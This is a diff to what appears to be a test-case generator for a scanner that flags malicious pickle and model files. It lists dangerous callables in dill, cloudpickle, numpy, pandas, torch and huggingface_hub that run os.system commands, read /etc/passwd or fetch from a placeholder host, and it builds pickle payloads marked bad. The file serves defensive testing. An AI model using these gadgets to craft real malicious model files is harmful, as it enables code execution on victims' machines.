@@ -27,21 +27,15 @@ CODE = f"import os; os.system('{COMMAND}')"
 Call = tuple[str, str, tuple[object, ...]]
 CALLS: tuple[Call, ...] = (
     ("dill._dill", "_eval_repr", (EXPRESSION,)),
-    ("dill._dill", "_import_module", ("os.system",)),
-    ("dill", "load_module", (f"/tmp/{MARKER}",)),
     ("dill.source", "importable", ("x",)),
     ("cloudpickle.cloudpickle", "subimport", ("antigravity",)),
     ("joblib.numpy_pickle", "load", ("/etc/hostname",)),
-    ("joblib.externals.cloudpickle.cloudpickle", "subimport", ("os",)),
     ("numpy.testing._private.utils", "measure", (f"__import__('os').system('{COMMAND}')",)),
     ("numpy.f2py.crackfortran", "param_eval", (EXPRESSION, {}, {}, None)),
-    ("numpy.f2py.diagnose", "run_command", (COMMAND,)),
     ("numpy.lib._datasource", "open", (f"http://{HOST}/x",)),
     ("numpy", "loadtxt", (f"http://{HOST}/x",)),
     ("numpy", "genfromtxt", ("/etc/passwd",)),
     ("pandas.io.common", "urlopen", (f"http://{HOST}/x",)),
-    ("pandas", "read_html", (f"http://{HOST}/x",)),
-    ("pandas.io.clipboard", "copy_osx_pbcopy", ("x",)),
     ("pandas.core.computation.eval", "eval", ("__import__('os')",)),
     ("sklearn.utils._testing", "check_docstring_parameters", ("x",)),
     ("sklearn.externals._packaging.version", "Version", ("1.0",)),
@@ -51,11 +45,9 @@ CALLS: tuple[Call, ...] = (
     ("torch.utils.model_zoo", "load_url", (f"http://{HOST}/x",)),
     ("torch._C._functorch", "nope", ()),
     ("torch.utils.cpp_extension", "load_inline", ("k", "int f(){return 0;}")),
-    ("torch.jit", "load", ("/etc/hostname",)),
     ("torch._inductor.codecache", "CppCodeCache.load", ("int f(){}",)),
     ("torch.fx.graph_module", "_exec_with_source", (CODE, {})),
     ("torch.fx.graph_module", "_forward_from_src", (f"{CODE}\ndef forward(self): pass", {})),
-    ("torch.package.package_importer", "PackageImporter", ("/etc/hostname",)),
     ("transformers", "pipeline", ("text-generation",)),
     ("huggingface_hub", "hf_hub_download", ("evil/x", "x.pkl")),
     ("huggingface_hub", "snapshot_download", ("evil/x",)),
@@ -156,12 +148,6 @@ def _functions() -> Iterator[Unit]:
     lazy = op.call(op.stacked("builtins", "map"), function, op.value([]))
     yield PICKLE.bad(
         "function-call", "types-in-map", {"model.pkl": op.pickle4(op.call(function) + b"0" + lazy)}
-    )
-    imported = op.call(op.stacked("dill._dill", "_import_module"), op.text("os.system"))
-    yield PICKLE.bad(
-        "function-call",
-        "dill-import",
-        {"model.dill": op.pickle4(op.call(imported, op.text(COMMAND)))},
     )
     module = op.call(op.stacked("cloudpickle.cloudpickle", "subimport"), op.text("os"))
     got = op.call(op.stacked("builtins", "getattr"), module, op.text("system"))
